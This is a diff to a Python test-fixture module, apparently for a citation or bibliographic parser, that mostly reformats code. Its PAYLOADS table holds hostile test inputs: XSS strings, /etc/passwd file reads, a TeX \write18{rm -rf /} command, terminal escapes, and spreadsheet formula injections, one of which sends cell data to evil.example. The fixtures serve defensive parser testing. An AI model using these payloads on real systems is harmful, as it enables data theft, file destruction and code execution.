@@ -5,6 +5,8 @@ puts every one of them into every field of every format. `STRUCTURES` are files 
 attack; each is made for a size, so that a test can compare what n and 2n cost.
 """
 
+# ruff: noqa: E501 (a table reads best with one structure a line)
+
 from __future__ import annotations
 
 import gzip
@@ -41,7 +43,7 @@ PAYLOADS: Mapping[str, str] = {
     "link": "[link=file:///etc/passwd]read[/link] [a](javascript:alert(1)) <javascript:alert(1)>",
     "html": "<script>alert(1)</script><img src=x onerror=alert(1)><a href='javascript:alert(1)'>x</a> <i>never closed",
     "entities": "&#27;]52;c;QQ==&#7; &#x9b;31m &#0; &#xd800; &#1114112; &lt;script&gt; &amp;lt;b&amp;gt;",
-    "tex": "\\input{/etc/passwd} \\write18{rm -rf /} \\href{javascript:alert(1)}{x} \\char27 \\symbol{\"1B} ^^1b]52;c;QQ==",
+    "tex": '\\input{/etc/passwd} \\write18{rm -rf /} \\href{javascript:alert(1)}{x} \\char27 \\symbol{"1B} ^^1b]52;c;QQ==',
     "formula": '=HYPERLINK("http://evil.example/?x="&A1,"x")',
     "formula at": "@SUM(1+1)*cmd|' /C calc'!A0",
     "formula plus": "+1+1-cmd|' /C calc'!A0\t-2",
@@ -213,7 +215,9 @@ def _yaml(body: str) -> bytes:
 
 
 def _bib(body: str) -> bytes:
-    return f"@book{{before, title={{Before}}, year=2001}}\n{body}\n@book{{after, title={{After}}, year=2002}}\n".encode()
+    return (
+        f"@book{{before, title={{Before}}, year=2001}}\n{body}\n@book{{after, title={{After}}, year=2002}}\n".encode()
+    )
 
 
 def _csl_items(*items: str) -> bytes:
@@ -222,7 +226,9 @@ def _csl_items(*items: str) -> bytes:
 
 
 def _records(count: int, make: Callable[[int], dict[str, object]]) -> bytes:
-    return json.dumps([{"_id": str(n), "type": "book", "date_published": "2001", **make(n)} for n in range(count)]).encode()
+    return json.dumps(
+        [{"_id": str(n), "type": "book", "date_published": "2001", **make(n)} for n in range(count)]
+    ).encode()
 
 
 def _laughs(n: int) -> bytes:
